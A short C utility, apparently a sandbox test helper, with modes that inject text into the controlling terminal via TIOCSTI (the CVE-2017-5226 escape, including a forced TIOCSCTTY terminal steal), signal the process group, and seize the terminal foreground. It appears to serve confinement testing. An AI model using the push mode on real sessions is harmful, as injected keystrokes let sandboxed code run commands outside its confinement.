/*
 *     terminal push TEXT       CVE-2017-5226: types TEXT into the terminal that is its standard input
 *     terminal group SIGNAL    sends it to its process group, which is its caller's where there is no session of its own
 *     terminal front           makes itself the terminal's foreground process group
 */

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int said(const char *what, int result)
{
    printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
    return result < 0;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "push") == 0) {
        int result = 0;
        /* Without one, the terminal may be taken; with CAP_SYS_ADMIN also from who has it. */
        for (int force = 0; force < 2; force++)
            ioctl(0, TIOCSCTTY, force);
        for (const char *at = argv[2]; *at && result == 0; at++)
            result = ioctl(0, TIOCSTI, at);
        return said("push", result);
    }
    if (argc == 3 && strcmp(argv[1], "group") == 0) {
        int number = atoi(argv[2]);
        signal(number, SIG_IGN);
        return said("group", kill(0, number));
    }
    if (argc == 2 && strcmp(argv[1], "front") == 0) {
        signal(SIGTTOU, SIG_IGN);
        /* The group that it is in may have no number here. */
        setpgid(0, 0);
        int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
        return said("front", tcsetpgrp(terminal < 0 ? 0 : terminal, getpgrp()));
    }
    return 2;
}
